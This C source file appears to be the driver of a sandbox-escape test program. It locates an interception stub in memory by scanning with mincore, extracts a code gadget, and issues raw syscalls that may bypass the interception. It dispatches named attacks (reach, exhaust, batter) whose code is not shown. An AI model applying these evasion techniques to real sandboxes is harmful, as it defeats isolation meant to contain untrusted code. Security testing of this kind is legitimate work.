/* A program that means harm, once it is away: attack WHAT [WORD...]. It says "begins", then what became of it. */
#include "attack.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

char *stub;
static long (*issue)(volatile uint32_t *, long, const u64 *);

/* Where a mover looks for a gap (native/mover/out.cc); its own list of mappings would bring the program home. */
void find_stub(void) {
  unsigned char present;
  for (unsigned long at = 0x400000000000; at < 0x540000000000 && !stub; at += 1ul << 36)
    if (!mincore((void *)at, 4096, &present) && !memcmp((char *)at, "MOBLOB01", 8)) stub = (char *)at;
  /* interruptible(): push %rbx; mov %rdi, %rbx; mov %rsi, %rax; mov %rdx, %r11 */
  static const char code[] = "\x53\x48\x89\xfb\x48\x89\xf0\x49\x89\xd3";
  if (stub) issue = (long (*)(volatile uint32_t *, long, const u64 *))memmem(stub, kCode, code, sizeof code - 1);
}

long outside(long nr, u64 a, u64 b, u64 c, u64 d, u64 e, u64 f) {
  long result;
  register u64 r10 asm("r10") = d;
  register u64 r8 asm("r8") = e;
  register u64 r9 asm("r9") = f;
  asm volatile("syscall" : "=a"(result) : "0"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
  return result;
}

long inside(long nr, u64 a, u64 b, u64 c, u64 d, u64 e, u64 f) {
  static volatile uint32_t no;
  u64 args[6] = {a, b, c, d, e, f};
  return issue ? issue(&no, nr, args) : outside(nr, a, b, c, d, e, f);
}

int in_child(void (*thing)(long), long argument, int ms) {
  pid_t pid = fork();
  if (pid < 0) return -1;
  if (pid == 0) {
    thing(argument);
    _exit(0);
  }
  for (int waited = 0, status;; waited++) {
    pid_t ended = waitpid(pid, &status, WNOHANG);
    if (ended == pid) return status;
    if (ended < 0) return -1;
    if (waited == ms) kill(pid, SIGKILL);
    nanosleep(&(struct timespec){0, 1000000}, 0);
  }
}

int main(int count, char **words) {
  if (count < 2) return 2;
  setvbuf(stdout, 0, _IOLBF, 0);
  find_stub();
  printf("begins %s\n", stub ? issue ? "in the stub" : "beside the stub" : "without a stub");
  const char *what = words[1];
  if (!strncmp(what, "reach-", 6)) return reach(what + 6, words + 2);
  if (!strncmp(what, "exhaust-", 8)) return exhaust(what + 8);
  return batter(what);
}
